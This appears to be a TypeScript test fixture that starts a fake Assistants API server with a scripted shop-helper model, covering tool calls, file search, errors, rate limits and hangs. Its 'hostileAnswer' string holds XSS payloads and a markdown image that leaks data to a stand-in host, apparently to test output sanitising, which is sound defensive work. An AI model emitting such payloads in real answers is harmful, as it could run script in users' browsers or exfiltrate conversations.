import type OpenAI from 'openai'
import { scripted } from '../../src/models/scripted.ts'
import { startTestServer, type TestServer } from '../server.ts'

type Assistant = OpenAI.Beta.Assistant
type Run = OpenAI.Beta.Threads.Run

export interface Room extends TestServer {
  assistant: Assistant
  /** Says something in the thread, and runs the assistant until it stops or asks. */
  ask: (
    thread: string,
    words: string,
    params?: Partial<OpenAI.Beta.Threads.RunCreateParamsNonStreaming>,
  ) => Promise<Run>
}

const weather = {
  type: 'function' as const,
  function: { name: 'get_weather', parameters: { type: 'object', properties: { city: { type: 'string' } } } },
}

/** An answer with all that a hostile one could try. */
export const hostileAnswer = [
  'Very **hostile**: <script>document.title = "taken"</script>',
  '![leak](https://leak.invalid/picture.png?what=was-said)',
  '[good](https://example.com/) [bad](javascript:document.title="taken") [odd](data:text/html,taken)',
  '<img src=x onerror="document.title=\'taken\'"><iframe src="https://leak.invalid/"></iframe>',
].join('\n\n')

/**
 * A server with an assistant who calls a function when asked for the weather, searches when asked for a policy, fails
 * when asked to, waits for the provider once when told that it is busy, and answers everything else.
 */
export async function startRoom(): Promise<Room> {
  let wasBusy = false
  const model = scripted((prompt) => {
    const asked = JSON.stringify(prompt.findLast(({ role }) => role === 'user'))
    const isTold = prompt.at(-1)?.role === 'tool'
    if (asked.includes('fail')) return { error: { status: 400, message: 'This model takes no pictures.' } }
    if (asked.includes('busy') && !wasBusy) {
      wasBusy = true
      return { error: { status: 429, message: 'Slow down, please.', retryAfterMs: 20 } }
    }
    if (asked.includes('hang')) return { text: 'I am still ', hang: true }
    if (asked.includes('hostile')) return { text: hostileAnswer }
    if (asked.includes('weather') && !isTold)
      return { toolCalls: [{ name: 'get_weather', arguments: { city: 'Paris' } }] }
    if (asked.includes('policy') && !isTold)
      return { toolCalls: [{ name: 'file_search', arguments: { query: 'refund policy' } }] }
    return { text: ['This is ', 'the answer.'] }
  })
  const server = await startTestServer({ models: { scripted: model } })
  const { client } = server
  const store = await client.vectorStores.create({})
  const file = await client.files.create({
    purpose: 'assistants',
    file: new File(['Our refund policy: money back within 30 days.'], 'refunds.md'),
  })
  await client.vectorStores.files.createAndPoll(store.id, { file_id: file.id })
  const assistant = await client.beta.assistants.create({
    model: 'scripted',
    name: 'Shop helper',
    instructions: 'You help the customers of a shop.',
    tools: [{ type: 'file_search' }, weather],
    tool_resources: { file_search: { vector_store_ids: [store.id] } },
  })
  return {
    ...server,
    assistant,
    async ask(thread, words, params = {}) {
      await client.beta.threads.messages.create(thread, { role: 'user', content: words })
      return client.beta.threads.runs.createAndPoll(
        thread,
        { assistant_id: assistant.id, ...params },
        { pollIntervalMs: 20 },
      )
    },
    [Symbol.asyncDispose]: () => server[Symbol.asyncDispose](),
  }
}
